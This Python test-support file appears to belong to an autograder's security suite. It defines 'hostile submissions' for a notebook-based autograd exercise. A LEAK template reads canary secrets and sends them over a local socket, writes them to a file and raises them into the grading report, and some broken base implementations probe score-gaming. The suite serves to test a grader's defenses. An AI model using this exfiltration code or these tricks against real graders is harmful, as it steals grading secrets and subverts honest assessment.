"""What a hostile submission is: an honest base, and a few lines that try to get more out of it than it is worth."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.engines import TOPIC, changed
from tests.nbgrader_helpers import own_engine

NOTHING = (TOPIC.shipped / TOPIC.module).read_text(encoding="utf-8")
FORWARD = '''
class Value:
    def __init__(self, data, _children=(), _op="", label=""):
        self.data, self.grad = data, 0.0

    def __add__(self, other):
        return Value(self.data + getattr(other, "data", other))

    def __mul__(self, other):
        return Value(self.data * getattr(other, "data", other))

    __radd__, __rmul__ = __add__, __mul__

    def backward(self):
        self.grad = 1.0
'''
ONES = FORWARD.replace("        self.grad = 1.0\n", """\
        for parent in (self, *self.parents):
            parent.grad = 1.0
""").replace("self.data, self.grad = data, 0.0", "self.data, self.grad, self.parents = data, 0.0, _children").replace(
    'getattr(other, "data", other))', 'getattr(other, "data", other), (self,))')
# name: the text of value.py without the attack. What each earns is measured, never written down: `honest` in arena.py.
BASES: dict[str, Callable[[], str]] = {
    "nothing": lambda: NOTHING, "forward": lambda: FORWARD, "ones": lambda: ONES, "whole": own_engine,
    "overwrites": lambda: changed(("other.grad += self.data * out.grad", "other.grad = self.data * out.grad"),
                                  ("self.grad += other.data * out.grad", "self.grad = other.data * out.grad")),
}

# Begins every attack that finds something out: it tells by every way there is. @NAME@, @COURSE@, @HOME@, @ROOT@ and
# @PORT@ are filled in, so that an attacker who does not know a path is no weaker than one who does.
LEAK = '''
import os as _os, socket as _socket


def _leak(found):
    """Print it, send it, leave it in a file, and die of it: an error's text stands in the report."""
    if isinstance(found, bytes):
        at = max(found.find(b"CANARY"), 0)
        found = found[at:at + 80].decode("utf-8", "replace")
    print(found)
    try:
        with _socket.create_connection(("127.0.0.1", @PORT@), 1) as line:
            line.sendall(("@NAME@: " + str(found)).encode())
    except OSError:
        pass
    try:
        with open("@COURSE@/leaked-@NAME@", "a") as file:
            file.write(str(found))
    except OSError:
        pass
    raise RuntimeError(str(found)[:200])

'''
CELL = "exercises.ipynb"  # the notebook that attacks in notebooks change


@dataclass(frozen=True)
class Sample:
    """One hostile submission.

    `base` names the honest work in it, and so the score it deserves. `module` is added to the base, or stands in place
    of it where `alone`. `cells` go in front of the notebook's. `change` does the rest to the folder: its files, links,
    JSON. `must_not` says what the attack is after.
    """

    name: str
    family: str
    must_not: str
    base: str = "nothing"
    module: str = ""
    alone: bool = False
    cells: tuple[str, ...] = ()
    change: Callable[[Path], None] | None = None
    unboxed: bool = True        # may run outside a sandbox too: it hurts nothing but what the test made
    slow: bool = False          # uses up a limit: not among those that the ordinary suite runs

    @property
    def in_module(self) -> bool:
        """Whether all of it is in value.py, so that the judge alone can be asked."""
        return not self.cells and self.change is None

    @property
    def honest(self) -> str:
        """The base whose points it deserves."""
        return "nothing" if self.alone else self.base

    def text(self, **places: object) -> str:
        """The text of its value.py."""
        base = "" if self.alone else BASES[self.base]()
        text = base + "\n" + (LEAK if "_leak(" in self.module else "") + self.module
        return filled(text, self.name, **places)


def filled(text: str, name: str, **places: object) -> str:
    """`text` with the places that it names: COURSE, HOME, ROOT, PORT."""
    for place, value in {"NAME": name, **places}.items():
        text = text.replace(f"@{place}@", str(value))
    return text
